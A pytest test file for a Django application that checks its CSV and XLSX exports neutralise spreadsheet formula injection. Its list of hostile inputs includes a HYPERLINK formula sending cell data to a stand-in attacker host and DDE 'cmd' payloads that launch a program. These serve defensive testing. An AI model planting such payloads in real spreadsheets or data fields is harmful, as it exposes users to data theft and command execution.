"""Formula injection (issue 14, item 1): every spreadsheet the system writes neutralises
texts a spreadsheet program would run, through the one writer (snimh/exportacion.py);
the text stays as entered in the database and on the pages."""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse

from acuerdos.models import Acuerdo
from snimh.exportacion import celda_csv, como_xlsx, es_formula
from tests.api.conftest import cliente_api

pytestmark = pytest.mark.django_db

HOSTILES = [
    '=HYPERLINK("http://atacante.example/robo?d="&A1,"ver")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("texto", HOSTILES)
def test_la_regla_reconoce_las_formulas(texto):
    assert es_formula(texto)
    assert celda_csv(texto) == "'" + texto


@pytest.mark.parametrize("valor", ["Se aprueba el programa", "46:30/09/2020", "-1500", "+3.5", "1e-3", "", 42, -7,
                                   None])
def test_numeros_y_texto_comun_quedan_igual(valor):
    assert not es_formula(valor)
    assert celda_csv(valor) == valor


@pytest.fixture
def con_textos_hostiles(registro_2020, coordinacion):
    """Agreements whose text is a formula, entered through the API as the attack run did."""
    cliente = cliente_api(coordinacion)
    sesion = Acuerdo.objects.get(numero=46).sesion_id
    for numero, texto in enumerate(HOSTILES[:5], start=901):
        respuesta = cliente.post(reverse("api:acuerdo-list"), {"numero": numero, "sesion": sesion, "texto": texto},
                                 format="json")
        assert respuesta.status_code == 201, respuesta.json()
    # The annex of 2020 lists agreement 46: its text becomes hostile too.
    Acuerdo.objects.filter(numero=46).update(texto=HOSTILES[0])
    return {numero: texto for numero, texto in enumerate(HOSTILES[:5], start=901)} | {46: HOSTILES[0]}


def _filas_csv(contenido):
    return list(csv.reader(io.StringIO(contenido.decode("utf-8-sig"))))


def _celdas_xlsx(contenido):
    """``{reference: (type, style, text)}`` of the first sheet, read from its XML."""
    with zipfile.ZipFile(io.BytesIO(contenido)) as libro:
        hoja = libro.read("xl/worksheets/sheet1.xml").decode()
        estilos = libro.read("xl/styles.xml").decode()
    assert "<f>" not in hoja and "<f " not in hoja, "a formula was written"
    xfs = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", estilos.split("<cellXfs", 1)[1].split("</cellXfs>", 1)[0])
    celdas = {}
    for referencia, atributos, cuerpo in re.findall(r'<c r="([A-Z]+\d+)"([^>]*)>(.*?)</c>', hoja):
        tipo = re.search(r't="(\w+)"', atributos)
        estilo = re.search(r's="(\d+)"', atributos)
        texto = re.search(r"<t[^>]*>(.*?)</t>|<v>(.*?)</v>", cuerpo, re.S)
        comillas = bool(estilo) and 'quotePrefix="1"' in xfs[int(estilo.group(1))]
        celdas[referencia] = (tipo.group(1) if tipo else "n", comillas,
                              (texto.group(1) or texto.group(2)) if texto else None)
    return celdas


def _sin_entidades(texto):
    return texto.replace("&amp;", "&").replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">")


def test_exportacion_csv_interna(client, consulta, con_textos_hostiles):
    client.force_login(consulta)
    filas = _filas_csv(client.get(reverse("acuerdos:exportar_csv")).content)
    textos = {int(fila[0]): fila[4] for fila in filas[1:]}
    for numero, texto in con_textos_hostiles.items():
        assert textos[numero] == "'" + texto
    # Numbers stay numbers: the first column is not neutralised.
    assert all(fila[0].isdigit() for fila in filas[1:])


def test_exportacion_xlsx_interna(client, consulta, con_textos_hostiles):
    client.force_login(consulta)
    celdas = _celdas_xlsx(client.get(reverse("acuerdos:exportar_xlsx")).content)
    filas = {}
    for referencia, celda in celdas.items():
        columna, fila = re.match(r"([A-Z]+)(\d+)", referencia).groups()
        filas.setdefault(int(fila), {})[columna] = celda
    vistos = 0
    for indice, fila in filas.items():
        if indice == 1:
            continue  # the header
        numero = fila["A"]
        assert numero[0] == "n", numero  # numbers keep their type
        if int(numero[2]) in con_textos_hostiles:
            tipo, comillas, texto = fila["E"]
            # A string cell with the text exactly as entered, protected by the quote prefix.
            assert (tipo, comillas, _sin_entidades(texto)) == ("inlineStr", True, con_textos_hostiles[int(numero[2])])
            vistos += 1
        # The session date is a real date (a number with a date style), not text.
        assert fila["D"][0] == "n"
    assert vistos == len(con_textos_hostiles)


def test_transparencia_csv_anonima(client, con_textos_hostiles):
    filas = _filas_csv(client.get(reverse("transparencia:acuerdos_csv")).content)
    cabecera = filas[0]
    textos = {int(fila[cabecera.index("numero")]): fila[cabecera.index("texto")] for fila in filas[1:]}
    for numero, texto in con_textos_hostiles.items():
        assert textos[numero] == "'" + texto


def test_anexo_csv_y_xlsx(client, coordinacion, con_textos_hostiles):
    client.force_login(coordinacion)
    filas = _filas_csv(client.get(reverse("informes:anexo_csv", args=[2020])).content)
    fila_46 = next(f for f in filas if f[1].startswith("46:"))
    assert fila_46[2] == "'" + HOSTILES[0]
    celdas = _celdas_xlsx(client.get(reverse("informes:anexo_xlsx", args=[2020])).content)
    hostiles = [c[:2] for c in celdas.values() if c[2] and _sin_entidades(c[2]) == HOSTILES[0]]
    # Agreement 46 and agreement 901, adopted in the same session.
    assert hostiles == [("inlineStr", True)] * 2


def test_plantilla_de_importacion_sin_formulas(client, coordinacion):
    client.force_login(coordinacion)
    respuesta = client.get(reverse("acuerdos:importar_plantilla"))
    contenido = b"".join(respuesta.streaming_content)
    celdas = _celdas_xlsx(contenido)
    assert celdas["A1"][2] == "sesion" and celdas["A2"] == ("n", False, "21")


def test_el_texto_queda_como_se_escribio(client, consulta, con_textos_hostiles):
    """Only the files are neutralised: the record and the page keep the text as entered."""
    assert Acuerdo.objects.get(numero=902).texto == HOSTILES[1]
    client.force_login(consulta)
    pagina = client.get(reverse("acuerdos:detalle", args=[902])).content.decode()
    assert "=cmd|&#x27; /C calc&#x27;!A0" in pagina


def test_escritor_xlsx_no_escribe_formulas_aunque_se_le_pida():
    """openpyxl turns any str starting with "=" into a formula; the writer never lets it."""
    contenido = como_xlsx("Prueba", ["a", "b"], [["=1+1", 3], ["texto", "=SUM(A1:A2)"]], anchos=(10, 50))
    celdas = _celdas_xlsx(contenido)
    assert celdas["A2"] == ("inlineStr", True, "=1+1")
    assert celdas["B3"] == ("inlineStr", True, "=SUM(A1:A2)")
    assert celdas["B2"] == ("n", False, "3")


def test_tabla_de_responsables_anonima(client, registro_2020):
    """The open data's second table (agreement × institution): an institution whose name was
    entered as a formula is written neutralised in CSV and as a plain string in XLSX."""
    from compromisos import services as motor
    from tests.factories import InstitucionFactory

    hostil = InstitucionFactory(nombre=HOSTILES[1], siglas="HOSTIL")
    motor.responsable_agregar(compromiso=Acuerdo.objects.get(numero=46), institucion=hostil)
    filas = _filas_csv(client.get(reverse("transparencia:responsables_csv")).content)
    cabecera = filas[0]
    nombres = {fila[cabecera.index("siglas")]: fila[cabecera.index("institucion")] for fila in filas[1:]}
    assert nombres["HOSTIL"] == "'" + HOSTILES[1]
    assert nombres["INMUJERES"] == "Instituto Nacional de las Mujeres"
    celdas = _celdas_xlsx(client.get(reverse("transparencia:responsables_xlsx")).content)
    textos = [c for c in celdas.values() if c[0] == "inlineStr" and c[2] and _sin_entidades(c[2]) == HOSTILES[1]]
    assert textos and all(comillas for _, comillas, _ in textos)
